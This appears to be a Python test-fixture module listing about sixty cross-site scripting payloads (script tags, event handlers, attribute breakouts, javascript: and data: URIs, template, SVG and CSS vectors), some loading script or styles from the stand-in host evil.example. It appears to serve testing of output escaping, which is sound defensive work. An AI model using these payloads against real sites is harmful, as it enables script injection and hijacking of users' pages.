"""Texts that are code wherever a page forgets to escape them. Each one calls `alert`, or loads something."""

_CALL = "alert(1)"
_TAGS = (
    "<script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<script src='//evil.example/x.js'></script>",
    "<scr<script>ipt>{c}</script>",
    "</script><script>{c}</script>",
    "<img src=x onerror={c}>",
    "<img src=x onerror='{c}'>",
    '<img src="x" onerror="{c}">',
    "<img/src=x/onerror={c}>",
    "<svg onload={c}>",
    "<svg/onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<body onload={c}>",
    "<iframe src=javascript:{c}>",
    '<iframe srcdoc="<script>{c}</script>">',
    "<object data=javascript:{c}>",
    "<embed src=javascript:{c}>",
    "<a href=javascript:{c} autofocus onfocus={c}>x</a>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>",
    "<details open ontoggle={c}>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}>",
    "<marquee onstart={c}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href='//evil.example/'>",
    "<form action=javascript:{c}><button autofocus>x</button></form>",
    "<math><mtext><script>{c}</script>",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<div hx-get=/console hx-trigger=load hx-on::after-request={c}>",
    "<div hx-on:click={c} hx-trigger=load>",
    "<div data-hx-get='//evil.example' hx-trigger='load'>",
    "<p style='background:url(//evil.example/x)'>",
    "<table background='//evil.example/x'>",
    "<!--><script>{c}</script>-->",
)
_BREAKOUTS = (
    '"><script>{c}</script>',
    "'><script>{c}</script>",
    '" onmouseover="{c}" x="',
    "' onmouseover='{c}' x='",
    '" autofocus onfocus="{c}',
    "` onerror={c} `",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</style><script>{c}</script>",
    "</pre></code><script>{c}</script>",
    "</select><img src=x onerror={c}>",
    "--><img src=x onerror={c}>",
    "]]><script>{c}</script>",
)
_OTHERS = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "data:text/html,<script>{c}</script>",
    "{{{{constructor.constructor('{c}')()}}}}",
    "${{{c}}}",
    "{{% raw %}}<script>{c}</script>",
    "&lt;script&gt;{c}&lt;/script&gt;&#60;img src=x onerror={c}&#62;",
)
_ADDRESSES = (
    "java&#9;script:{c}",
    "&#1;javascript:{c}",
    "vbscript:{c}",
    "//evil.example/x.js",
    "https:evil.example",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>",
)
_DRAWINGS = (
    "<svg><a xlink:href='javascript:{c}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={c}/>#x'/></svg>",
    "<svg><set attributeName=onload to={c}></svg>",
    "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>",
    "</title></svg><svg onload={c}>",
    "<svg><style><img src=x onerror={c}></style></svg>",
)
_STYLES = (
    "x;background:url(//evil.example/x)",
    "}}*{{background:url(//evil.example/x)}}",
    "expression({c})",
    "</style><style>*{{background:url(//evil.example/x)}}",
    '" style="background:url(//evil.example/x)" x="',
)
PAYLOADS = tuple(each.format(c=_CALL) for each in (*_TAGS, *_BREAKOUTS, *_OTHERS))
"""Sixty, for pages in a browser."""
CONTEXTS = tuple(each.format(c=_CALL) for each in (*_ADDRESSES, *_DRAWINGS, *_STYLES))
"""Further ones for addresses, drawings and styles: see tests/integration/console/test_contexts.py."""
